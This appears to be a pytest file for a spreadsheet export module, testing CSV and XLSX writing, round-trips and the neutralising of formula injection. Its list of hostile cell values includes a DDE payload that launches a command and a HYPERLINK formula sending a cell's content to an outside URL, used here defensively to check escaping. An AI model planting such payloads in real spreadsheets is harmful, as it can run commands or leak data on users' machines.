"""Tables written: no formula, nothing changed, the same again when read."""

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from sscdesk.interop.sheet import Cell
from sscdesk.interop.spreadsheet import read
from sscdesk.interop.workbook_writing import write_xlsx
from sscdesk.interop.writing import Column, write_csv
from sscdesk.model.refusal import MachineFailed

COLUMNS = (
    Column("name_fr", "Nom"),
    Column("telephone", "Téléphone", telephone=True),
    Column("notes", "Observations"),
)
HOSTILE = [
    '=HYPERLINK("http://example.org/?x="&A1,"cliquez")',
    "+33 1 02 03",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "'=1+1",
    "''+1",
    "'simplement une apostrophe",
    '<b>gras</b>; "cité", fini',
]


def written_csv(tmp_path: Path, rows: list[list[Cell]]) -> list[list[str]]:
    write_csv(tmp_path / "a.csv", COLUMNS, rows)
    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_begins_like_a_formula(tmp_path: Path, text: str) -> None:
    headings, row = written_csv(tmp_path, [[text, "", text]])

    assert headings == ["name_fr", "telephone", "notes"]
    assert row[0][:1] not in "=+-@\t\r"
    assert [tuple(cells) for cells in read(tmp_path / "a.csv").rows] == [(text, "", text)]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_text_of_a_workbook_is_a_text(tmp_path: Path, text: str) -> None:
    write_xlsx(tmp_path / "a.xlsx", COLUMNS, [[text, "", text]], title="Liste")

    cell = load_workbook(tmp_path / "a.xlsx").active["A2"]  # type: ignore[index]
    assert (cell.data_type, cell.value) == ("s", text)
    assert [tuple(cells) for cells in read(tmp_path / "a.xlsx").rows] == [(text, "", text)]


def test_a_telephone_number_in_its_column_stays_as_it_is(tmp_path: Path) -> None:
    rows = written_csv(tmp_path, [["+212 500000001", "+212 500000001", ""], ["", "+1-800", ""]])

    assert rows[1][:2] == ["'+212 500000001", "+212 500000001"]
    assert rows[2][1] == "'+1-800"


def test_a_csv_follows_the_standard(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", COLUMNS, [["École", "", 'dit "oui"\nnon']])

    content = (tmp_path / "a.csv").read_bytes()
    assert content == ('name_fr,telephone,notes\r\nÉcole,,"dit ""oui""\nnon"\r\n'.encode())


def test_cells_keep_their_type_in_a_workbook(tmp_path: Path) -> None:
    row: list[Cell] = [Decimal("12500.50"), date(2019, 4, 24), True]

    write_xlsx(tmp_path / "a.xlsx", COLUMNS, [row], title="Liste")

    sheet = read(tmp_path / "a.xlsx")
    assert [list(cells) for cells in sheet.rows] == [row]
    assert sheet.headings == ("Nom", "Téléphone", "Observations")


def test_typed_cells_read_back_from_a_csv(tmp_path: Path) -> None:
    rows = written_csv(tmp_path, [[Decimal("1E+3"), date(2019, 4, 24), False]])

    assert rows[1] == ["1000", "2019-04-24", "no"]


def test_an_arabic_workbook_is_read_from_the_right(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", COLUMNS, [["مالي", "", ""]], title="قائمة", right_to_left=True)

    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet is not None
    assert sheet.sheet_view.rightToLeft
    assert sheet.title == "قائمة"


def test_a_title_that_excel_refuses_is_shortened(tmp_path: Path) -> None:
    write_xlsx(
        tmp_path / "a.xlsx", COLUMNS, [], title="Missions [2026]: état / suivi du 1er trimestre"
    )

    assert load_workbook(tmp_path / "a.xlsx").sheetnames == ["Missions  2026   état   suivi d"]


def test_what_a_workbook_cannot_hold_is_cut_and_told(tmp_path: Path) -> None:
    cut = write_xlsx(tmp_path / "a.xlsx", COLUMNS, [["a", "", "b" * 40_000]], title="Liste")

    assert cut == [(1, "notes")]
    assert len(str(read(tmp_path / "a.xlsx").rows[0][2])) == 32_767


def test_a_stopped_export_leaves_what_was_there(tmp_path: Path) -> None:
    def stop(done: int) -> None:
        raise KeyboardInterrupt

    (tmp_path / "a.csv").write_text("before")
    with pytest.raises(KeyboardInterrupt):
        write_csv(tmp_path / "a.csv", COLUMNS, [["a", "", ""]], stop)

    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"]
    assert (tmp_path / "a.csv").read_text() == "before"


def test_a_folder_that_is_gone_is_told_in_words(tmp_path: Path) -> None:
    with pytest.raises(MachineFailed):
        write_csv(tmp_path / "nowhere" / "a.csv", COLUMNS, [["a", "", ""]])


# Cells as the desk keeps them: without controls, composed, without blanks around.
KEPT = st.text(
    st.characters(codec="utf-8", exclude_categories=["C", "Z", "M"]), min_size=1, max_size=15
)


@given(st.lists(st.tuples(KEPT, KEPT, KEPT), min_size=1, max_size=5))
def test_what_is_written_reads_back_the_same(rows: list[tuple[str, str, str]]) -> None:
    import tempfile
    import unicodedata

    kept = [tuple(unicodedata.normalize("NFC", cell) for cell in row) for row in rows]
    with tempfile.TemporaryDirectory() as folder:
        for name in ("a.csv", "a.xlsx"):
            path = Path(folder) / name
            if name == "a.csv":
                write_csv(path, COLUMNS, kept)
            else:
                write_xlsx(path, COLUMNS, kept, title="Liste")
            sheet = read(path)
            told = [remark.code for remark in sheet.remarks if remark.code != "look-alike-letters"]
            if not told:
                assert [tuple(map(str, row)) for row in sheet.rows] == kept
